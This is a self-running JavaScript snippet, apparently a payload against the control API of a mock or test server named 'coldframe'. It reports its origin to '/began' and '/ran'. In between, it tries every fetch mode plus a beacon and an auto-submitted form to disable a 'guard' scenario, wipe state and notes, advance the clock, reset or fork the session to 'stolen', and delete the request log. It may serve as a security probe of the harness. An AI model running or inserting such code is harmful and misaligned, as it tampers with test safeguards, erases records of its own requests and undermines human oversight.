(async function () {
  const from = document.documentElement.getAttribute('data-from') || location.pathname;
  const told = '?from=' + encodeURIComponent(from) + '%26origin=' + self.origin;
  await fetch('/began' + told, { mode: 'no-cors' });
  const tries = [['PATCH', 'scenarios/guard', { active: false }], ['DELETE', 'scenarios/guard'],
    ['PUT', 'state', { '/notes': [] }], ['DELETE', 'state'], ['PUT', 'clock', { advance: '1h' }],
    ['POST', 'sessions/default/reset', {}], ['POST', 'sessions/default/fork', { to: 'stolen' }], ['DELETE', 'requests']];
  for (const [method, path, body] of tries) {
    for (const mode of ['same-origin', 'cors', 'no-cors']) {
      const headers = mode == 'no-cors' ? {} : { 'Content-Type': 'application/json' };
      await fetch('/__coldframe/' + path, { method, mode, headers, body: body ? JSON.stringify(body) : null }).catch(function () {});
    }
  }
  navigator.sendBeacon('/__coldframe/sessions/default/reset');
  await fetch('/ran' + told, { mode: 'no-cors' });
  const form = document.createElementNS('http://www.w3.org/1999/xhtml', 'form');
  form.method = 'post'; form.action = '/__coldframe/sessions/default/reset';
  document.documentElement.append(form); form.submit();
})()
